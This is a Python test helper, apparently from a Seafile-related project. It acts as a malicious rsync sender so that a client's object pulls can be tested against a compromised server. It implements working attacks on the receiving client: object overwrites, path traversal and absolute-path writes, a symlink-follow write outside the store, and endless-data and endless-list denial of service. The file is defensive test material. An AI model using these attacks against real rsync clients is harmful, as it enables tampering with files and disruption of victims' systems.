# Copyright (c) 2026 The seafleet.seafile contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The sending end of rsync as a taken-over server may run it: it speaks the protocol and keeps no promise.

C(hostile_rsync.py ATTACK [WHEN [OBJECT]])  Speaks protocol 30 on standard input and output and ignores everything that the other end asks for.
With WHEN, a piece of text, only where that is in SSH_ORIGINAL_COMMAND; another command is run as it stands, as by an honest server.
With OBJECT, its path below the object store, this one is attacked.

Attacks on a pull of objects: C(overwrite) sends the data of an object that is there already, C(twice) does it two times; C(type)
lists an object that is there as a directory; C(extra), C(outside), C(absolute) list a path that is none of an object; C(through)
lists a link and a file behind it; C(endless) sends an object that has no end; C(many) lists files without end.
"""

from __future__ import annotations

import hashlib
import os
import stat
import struct
import subprocess
import sys
import threading
import time
import typing as t

STORE = "11111111-2222-3333-4444-555555555555"
OBJECT = f"blocks/{STORE}/ab/{'c' * 38}"
"""The object that is attacked."""
NEW = f"blocks/{STORE}/ab/{'d' * 38}"
EVIL = b"put here by the server\n"
VICTIM = "/tmp/seafleet-victim"
_FILE, _DIRECTORY, _LINK = stat.S_IFREG | 0o644, stat.S_IFDIR | 0o755, stat.S_IFLNK | 0o777
_LONG_NAME_AND_NO_OWNER = 0x40 | 0x18
_TOP = 1


def number(value: int, least: int) -> bytes:
    """rsync's write_varlong: a number in at least I(least) bytes."""
    data = value.to_bytes(8, "little")
    count = 8
    while count > least and data[count - 1] == 0:
        count -= 1
    bit = 1 << (7 - count + least)
    if data[count - 1] >= bit:
        count += 1
        first = ~(bit - 1) & 0xFF
    elif count > least:
        first = data[count - 1] | (~(bit * 2 - 1) & 0xFF)
    else:
        first = data[count - 1]
    return bytes([first]) + data[: count - 1]


class Sender:
    """The sender's half of protocol 30: a list of files, then files, asked for or not."""

    def __init__(self) -> None:
        self.last = -1
        self._write(struct.pack("<i", 30))
        sys.stdin.buffer.read(4)
        self._write(b"\0" + struct.pack("<i", 7))  # no extensions of the protocol; a seed
        threading.Thread(target=self._ignore, daemon=True).start()

    @staticmethod
    def _ignore() -> None:
        while os.read(0, 1 << 16):
            pass
        os._exit(0)

    @staticmethod
    def _write(data: bytes) -> None:
        sys.stdout.buffer.write(data)
        sys.stdout.buffer.flush()

    def send(self, data: bytes) -> None:
        """Send in frames of the multiplexed stream."""
        for start in range(0, len(data), 60000):
            piece = data[start : start + 60000]
            self._write(struct.pack("<I", (7 << 24) | len(piece)) + piece)

    def list(self, name: str, mode: int, size: int = 0, target: str = "", links: bool = False) -> None:
        """List one entry; with I(links) in the form in which links are asked for."""
        data = bytes([_LONG_NAME_AND_NO_OWNER | (_TOP if name == "." else 0)]) + number(len(os.fsencode(name)), 1) + os.fsencode(name)
        data += number(size, 3) + number(1700000000, 4) + struct.pack("<i", mode)
        if links and mode == _LINK:
            data += number(len(target), 1) + target.encode()
        self.send(data)

    def begin_file(self, index: int) -> None:
        """Begin to send the entry I(index) of the sorted list, without having been asked."""
        difference, self.last = index - self.last, index
        self.send(bytes([difference]) + struct.pack("<H", 0x8000) + struct.pack("<4i", 0, 0, 2, 0))

    def file(self, index: int, content: bytes) -> None:
        """Send a whole file."""
        self.begin_file(index)
        self.send(struct.pack("<i", len(content)) + content + struct.pack("<i", 0) + hashlib.md5(content).digest())

    def again(self, index: int, content: bytes) -> None:
        """Send a whole file once more: as an index that does not follow the last one."""
        self.send(
            b"\xfe"
            + bytes([0x80 | index >> 24, index & 255, index >> 8 & 255, index >> 16 & 255])
            + struct.pack("<H", 0x8000)
            + struct.pack("<4i", 0, 0, 2, 0)
            + struct.pack("<i", len(content))
            + content
            + struct.pack("<i", 0)
            + hashlib.md5(content).digest()
        )

    def end(self) -> None:
        """End as if all were well, and wait for the other end."""
        self.send(b"\0\0\0" + number(100, 3) * 3 + number(0, 3) * 2 + b"\0")
        time.sleep(3)


def target() -> str:
    """The object that is attacked."""
    return sys.argv[3] if len(sys.argv) > 3 else OBJECT


def directories(sender: Sender) -> None:
    """List the top and the directories above the objects."""
    sender.list(".", _DIRECTORY)
    parts = target().split("/")
    for depth in range(1, len(parts)):
        sender.list("/".join(parts[:depth]), _DIRECTORY)


def overwrite(sender: Sender) -> None:
    directories(sender)
    sender.list(target(), _FILE, len(EVIL))
    sender.send(b"\0")
    sender.file(4, EVIL)


def twice(sender: Sender) -> None:
    directories(sender)
    sender.list(target(), _FILE, len(EVIL))
    sender.send(b"\0")
    sender.file(4, b"not even " + EVIL)
    sender.again(4, EVIL)


def kind(sender: Sender) -> None:
    directories(sender)
    sender.list(target(), _DIRECTORY)
    sender.send(b"\0")


def path(name: str) -> t.Callable[[Sender], None]:
    def attack(sender: Sender) -> None:
        sender.list(".", _DIRECTORY)
        sender.list(name, _FILE, len(EVIL))
        sender.send(b"\0")
        sender.file(1, EVIL)

    return attack


def through(sender: Sender) -> None:
    sender.list(".", _DIRECTORY)
    sender.list("blocks", _LINK, target=VICTIM)
    sender.list("blocks/planted", _FILE, len(EVIL))
    sender.send(b"\0")
    time.sleep(1)
    sender.file(2, EVIL)


def endless(sender: Sender) -> None:
    directories(sender)
    sender.list(NEW, _FILE, 1)
    sender.send(b"\0")
    sender.begin_file(4)
    piece = struct.pack("<i", 32768) + b"x" * 32768
    while True:
        sender.send(piece)


def many(sender: Sender) -> None:
    directories(sender)
    for count in range(10**9):
        sender.list(f"blocks/{STORE}/ab/{count:038x}", _FILE, 1)


ATTACKS = {
    "overwrite": overwrite,
    "twice": twice,
    "type": kind,
    "extra": path("planted"),
    "outside": path("../planted"),
    "absolute": path(f"{VICTIM}/planted"),
    "through": through,
    "endless": endless,
    "many": many,
}


def main() -> None:
    wanted = os.environ.get("SSH_ORIGINAL_COMMAND", "")
    if len(sys.argv) > 2 and sys.argv[2] not in wanted:
        sys.exit(subprocess.call(["/bin/sh", "-c", wanted]))
    sender = Sender()
    ATTACKS[sys.argv[1]](sender)
    sender.end()


if __name__ == "__main__":
    main()
